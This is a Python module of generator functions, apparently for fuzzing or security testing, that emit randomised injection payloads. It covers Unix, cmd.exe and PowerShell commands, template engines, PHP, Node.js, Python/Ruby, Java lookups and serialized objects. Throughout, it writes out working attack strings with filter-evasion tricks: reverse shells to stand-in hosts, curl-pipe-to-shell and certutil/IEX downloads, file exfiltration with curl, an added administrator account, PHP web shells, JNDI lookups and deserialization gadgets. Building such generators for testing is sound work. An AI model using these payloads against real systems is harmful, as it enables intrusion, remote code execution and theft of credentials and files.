"""Attacks that make a program run: shells, template engines, interpreters, deserializers. One value per call."""
import base64


def unix(random):
    """What a Unix shell runs when the value stands at the end of a command line."""
    host = random.choice(["x.example", "198.51.100.7"])
    file = random.choice(["/etc/passwd", "/etc/shadow", "/etc/hosts", "/var/log/syslog", "~/.ssh/id_rsa", "/proc/self/environ", ".env", "index.php"])
    plain = random.choice([f"cat {file}", "id", "whoami", "ls -la", "ls", "uname -a", f"wget http://{host}/a.sh", f"curl http://{host}/a.sh|sh", f"ping -c 3 {host}", f"sleep {random.randint(1, 20)}", f"nslookup {host}", f"nc -e /bin/sh {host} 4444",
                           f"bash -i >& /dev/tcp/{host}/4444 0>&1", "env", "printenv", "ps aux", "netstat -an", "ifconfig", f"rm -rf /tmp/a", f"touch /tmp/a", f"echo pwned > /tmp/a", f"head -1 {file}", f"tail {file}", f"dig {host}", "pwd", "hostname", f"less {file}", f"find / -name id_rsa",
                           f"python3 -c 'import os;os.system(\"id\")'", f"perl -e 'print `id`'", f"php -r 'system(\"id\");'", "cat /etc/passwd | base64", f"grep root {file}", "crontab -l", f"chmod 777 /tmp/a", "sudo -l", f"ssh {host}", "busybox id", f"curl -d @{file} {host}", f"tac {file}", f"nl {file}", f"xxd {file}", f"awk 1 {file}", f"sed -n 1p {file}"])
    hidden = random.choice([lambda c: c, lambda c: c, lambda c: c, lambda c: c.replace(" ", "${IFS}"), lambda c: c.replace(" ", "$IFS$9"), lambda c: c.replace("cat", "c'a't").replace("whoami", "who''ami"), lambda c: c.replace("cat", "c\\at").replace("ls", "l\\s").replace("id", "i\\d"),
                            lambda c: c.replace("/etc/passwd", "/etc/pas?wd").replace("cat", "/bin/c?t"), lambda c: c.replace("/etc/passwd", "/e*c/p*sswd"), lambda c: "{" + c.replace(" ", ",") + "}" if " " in c else c, lambda c: c.replace("cat", "ca$@t").replace("whoami", "w$@hoami"),
                            lambda c: "echo " + base64.b64encode(c.encode()).decode() + "|base64 -d|sh", lambda c: "a=" + c.split()[0] + ";$a " + " ".join(c.split()[1:]), lambda c: c.replace(" ", "\t"), lambda c: c.replace("cat", "\"c\"at"), lambda c: c.replace(" ", "<") if c.startswith("cat ") else c,
                            lambda c: "/usr/bin/" + c, lambda c: c.replace("/", "${HOME:0:1}"), lambda c: "$(printf '\\x69\\x64')", lambda c: "sh -c '" + c.replace("'", "") + "'"])(plain)
    first = random.choice(["", "127.0.0.1", "x.example", "1", "test", "a.jpg", "anna@shop.example", "foo bar"])
    after = random.choice(["", "", "", " #", ";", "|", "&"])
    return random.choice([f"{first};{hidden}{after}", f"{first}; {hidden}{after}", f"{first}|{hidden}", f"{first} | {hidden}", f"{first}||{hidden}", f"{first}&&{hidden}", f"{first} && {hidden}", f"{first}&{hidden}&", f"{first}`{hidden}`", f"{first}$({hidden})",
                          f"{first}\n{hidden}", f"\";{hidden};\"", f"';{hidden};'", f"{first}%0a{hidden}", f"$({hidden})", f"`{hidden}`", f"'$({hidden})'", f"\"`{hidden}`\"", f"{first};{hidden};echo", "() { :;}; " + f"/bin/{hidden}"])


def windows(random):
    """What cmd.exe runs."""
    plain = random.choice(["dir", "dir C:\\", "whoami", "whoami /all", "type C:\\windows\\win.ini", "ipconfig", "ipconfig /all", "net user", "net user hacker P4ss /add", "net localgroup administrators", "systeminfo", "tasklist", "ping -n 5 127.0.0.1", "ver", "set", "netstat -ano",
                           "certutil -urlcache -split -f http://x.example/a.exe a.exe", "bitsadmin /transfer j http://x.example/a.exe c:\\a.exe", "powershell -c whoami", "cmd /c dir", "cmd.exe /c calc", "wmic process list", "reg query HKLM\\SAM", "echo %USERNAME%", "echo %PATH%", "copy a b", "del /f a.txt",
                           "start calc", "nslookup x.example", "mshta http://x.example/a.hta", "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"", "schtasks /query", "for /f %i in ('whoami') do echo %i", "timeout 5", "more C:\\boot.ini"])
    hidden = random.choice([lambda c: c, lambda c: c, lambda c: c, lambda c: "^".join(c[:6]) + c[6:], lambda c: c.replace("who", "w\"\"ho"), lambda c: c.upper(), lambda c: "%COMSPEC% /c " + c, lambda c: c.replace(" ", ",")])(plain)
    first = random.choice(["", "1", "127.0.0.1", "test", "a.txt"])
    return random.choice([f"{first}&{hidden}", f"{first} & {hidden}", f"{first}&&{hidden}", f"{first}|{hidden}", f"{first} | {hidden}", f"{first}||{hidden}", f"\"&{hidden}&\"", f"{first}&{hidden}&", f"{first}%0a{hidden}", f"{first}\r\n{hidden}"])


def powershell(random):
    """What PowerShell runs."""
    load = random.choice(["IEX(New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "Invoke-Expression (iwr http://x.example/a.ps1)", "iex (irm x.example/a)", "Invoke-WebRequest http://x.example/a -OutFile a.exe; Start-Process a.exe", "[System.Net.WebClient]::new().DownloadFile('http://x.example','a')",
                          "Get-Process", "Get-Content C:\\windows\\win.ini", "whoami", "Start-Process calc.exe", "Invoke-Command -ScriptBlock {whoami}", "[Convert]::FromBase64String('aQBkAA==')", "& (gcm *ke-e*) 'id'", "Get-ChildItem C:\\", "Set-ExecutionPolicy Bypass", "[Reflection.Assembly]::Load($b)"])
    encoded = base64.b64encode(load.encode("utf-16-le")).decode()
    return random.choice([f";powershell -c \"{load}\"", f"|powershell -nop -w hidden -c {load}", f"&powershell -enc {encoded}", f"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {encoded}", f"; {load}", f"$({load})", f"& {load}", f"| pwsh -Command \"{load}\"", f"1;{load}", f"{load}"])


def template(random):
    """What some template engine renders."""
    a, b = random.randint(2, 9999), random.randint(2, 9999)
    return random.choice([
        f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"@({a}*{b})", f"{{{{{a}*'{b}'}}}}", f"{{{{ {a} * {b} }}}}", f"${{{{{a}*{b}}}}}", f"{{%if {a}>{b}%}}x{{%endif%}}", f"[[${{{a}*{b}}}]]", f"@{{{a}*{b}}}", f"~{{{a}*{b}}}",
        "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", "{{['id']|filter('system')}}", "{{['id',1]|sort('system')|join}}", "{{app.request.server.all|join(',')}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")", "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "${class.getClassLoader()}", "{php}echo `id`;{/php}", "{system('id')}", "{$smarty.version}", "{if phpinfo()}{/if}", "<%= system('id') %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "#{`id`}", "#{system('id')}", "<%= Dir.entries('/') %>",
        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}", "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}", "${process.mainModule.require('child_process').execSync('id')}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{ dump(app) }}", "{{settings.SECRET_KEY}}", "{% debug %}", "{% include '/etc/passwd' %}", "{{handler.settings}}", "{% import os %}{{os.system('id')}}", "@(1+2)", "@{System.Diagnostics.Process.Start(\"cmd\")}", "${{<%[%'\"}}%\\.", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}", "{{printf \"%s\" .}}", "{{ .System \"id\" }}",
        "${session.getAttribute(\"x\")}", "#{session.setAttribute(\"rce\",\"\".getClass().forName(\"java.lang.Runtime\"))}", "{{x=Object}}{{w=a=new x}}{{w.type='pipe'}}", "{{g.pop.__globals__.__builtins__}}", "{{url_for.__globals__['current_app'].config}}", "{{get_flashed_messages.__globals__}}", "%{7*7}", "${jndi:ldap://x.example/a}", "{{joiner.__init__.__globals__.os.popen('id')}}"])


def php(random):
    """What PHP runs or builds."""
    command = random.choice(["id", "whoami", "ls", "cat /etc/passwd", "uname -a"])
    call = random.choice(["system", "exec", "shell_exec", "passthru", "popen", "assert", "eval"])
    return random.choice([
        f"<?php {call}('{command}'); ?>", "<?php phpinfo(); ?>", "<?php eval($_POST['x']);?>", f"<?=`{command}`?>", "<?= system($_GET[0]) ?>", f"{call}('{command}')", f"{call}(\"{command}\");", "phpinfo()", "phpinfo();", f";{call}('{command}');//", f"'.{call}('{command}').'", f"${{{call}('{command}')}}",
        "${@phpinfo()}", "{${phpinfo()}}", f"{call}($_GET['c'])", "file_get_contents('/etc/passwd')", "include('/etc/passwd')", "print_r(scandir('.'))", "base64_decode('aWQ=')", f"eval(base64_decode('cGhwaW5mbygpOw=='))", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "a:1:{i:0;O:4:\"Evil\":0:{}}", "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}",
        f"('sys'.'tem')('{command}')", f"\"\\x73ystem\"('{command}')", f"call_user_func('{call}','{command}')", f"array_map('{call}',array('{command}'))", "preg_replace('/.*/e','phpinfo()','')", "file_put_contents('a.php','<?php eval($_GET[1]);')", "-d allow_url_include=1 -d auto_prepend_file=php://input", "assert($_REQUEST['a'])", "$_GET['a']($_GET['b'])", "highlight_file('index.php')", "show_source(__FILE__)", "readfile('/etc/passwd')",
        "<script language=\"php\">phpinfo();</script>", "echo shell_exec('id');", "die(md5(1))", "print(md5(31337))", "var_dump(file('/etc/passwd'))", "include_once('http://x.example/a.txt')", "unserialize($_COOKIE['x'])", "create_function('','phpinfo();')", "`id`;", "php://filter/convert.base64-encode/resource=index"])


def node(random):
    """What Node.js runs, and names that reach every object."""
    return random.choice(["require('child_process').exec('id')", "require(\"child_process\").execSync(\"id\").toString()", "process.mainModule.require('child_process').execSync('id')", "global.process.mainModule.require('child_process').exec('id')", "this.constructor.constructor('return process')().exit()", "res.end(require('fs').readFileSync('/etc/passwd'))", "require('fs').readdirSync('.').toString()",
                          "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "{\"__proto__\":{\"admin\":true}}", "constructor.constructor('return this')()", "new Function('return process')()", "process.env", "process.exit(1)", "eval('process.pid')", "(function(){return process})()", "global.process.binding('spawn_sync')", "import('child_process').then(c=>c.execSync('id'))",
                          "__proto__[isAdmin]=1", "{\"constructor\":{\"prototype\":{\"a\":1}}}", "while(true){}", "';process.exit();//", "setTimeout(function(){process.exit()},1)", "require('os').hostname()", "require('net').connect(4444,'x.example')", "global['process']['mainModule']['require']('fs')", "console.log(process.env)"])


def python(random):
    """What Python, Ruby or Perl runs."""
    return random.choice(["__import__('os').system('id')", "__import__('os').popen('id').read()", "eval(compile('import os','a','exec'))", "exec('import os;os.system(\"id\")')", "os.system('id')", "subprocess.check_output('id')", "subprocess.Popen(['id'])", "().__class__.__bases__[0].__subclasses__()", "open('/etc/passwd').read()", "[c for c in ().__class__.__base__.__subclasses__()]",
                          "__builtins__.__import__('os')", "getattr(__import__('os'),'system')('id')", "'+__import__('time').sleep(5)+'", "import os;os.system('id')", "''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()", "eval(params[:a])", "Kernel.exec('id')", "IO.popen('id').read", "%x(id)", "@{[system 'id']}", ";print `id`;", "${\\system('id')}", "system('id');", "`id`", "instance_eval('`id`')",
                          "lambda: os.system('id')", "time.sleep(5)", "pty.spawn('/bin/sh')", "importlib.import_module('os').system('id')", "{}.__class__.__base__"])


def java(random):
    """What a logger looks up, OGNL, SpEL and EL evaluate."""
    name = random.choice(["jndi", "${lower:j}ndi", "${lower:j}${lower:n}${lower:d}i", "${::-j}${::-n}${::-d}${::-i}", "jn${env:X:-}di", "${upper:j}ndi", "j${k8s:k5:-ND}i", "${env:A:-j}ndi", "${${lower:j}ndi", "jnd${upper:ı}"])
    scheme = random.choice(["ldap", "rmi", "dns", "ldaps", "${lower:l}dap", "iiop", "ldap${::-:}"])
    return random.choice([f"${{{name}:{scheme}://x.example/a}}"] * 6 + [
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}", "redirect:${#context}",
        "T(java.lang.Runtime).getRuntime().exec('id')", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "new java.lang.ProcessBuilder('id').start()", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "Runtime.getRuntime().exec(\"id\")", "java.lang.Runtime.getRuntime().exec('id')", "''.getClass().forName('java.lang.Runtime')", "${applicationScope}", "${pageContext.request.getSession()}",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}", "javax.script.ScriptEngineManager", "org.apache.commons.collections.functors.InvokerTransformer", "\"\".getClass().forName(\"javax.script.ScriptEngineManager\")", "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'", "(#_memberAccess['allowStaticMethodAccess']=true)", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${dns:address|x.example}", "${url:UTF-8:http://x.example}", "'id'.execute().text"])


def deserialization(random):
    """Objects that run something when they are built."""
    tail = base64.b64encode(bytes(random.randrange(256) for _ in range(24))).decode()
    return random.choice(["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ" + tail, "rO0ABXQABHRlc3Q" + tail, "aced0005737200176a6176612e7574696c2e5072696f72697479", "AAEAAAD/////AQAAAAAAAAAMAgAAAE" + tail, "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example\"]]]]",
                          "cos\nsystem\n(S'id'\ntR.", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU" + tail, "Y29zCnN5c3RlbQooUydpZCcKdFIu", "--- !ruby/object:Gem::Installer\ni: x", "BAhvOkBBY3RpdmVTdXBwb3J0" + tail, "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", "O:3:\"Foo\":1:{s:3:\"cmd\";s:2:\"id\";}", "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('id')}()\"}",
                          "H4sIAAAAAAAAAJ2Rz0" + tail, "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"x.example\"}", "!!python/object/new:subprocess.Popen [id]", "c__builtin__\neval\n(S'1'\ntR.", "C:16:\"SplObjectStorage\":1:{x}"])
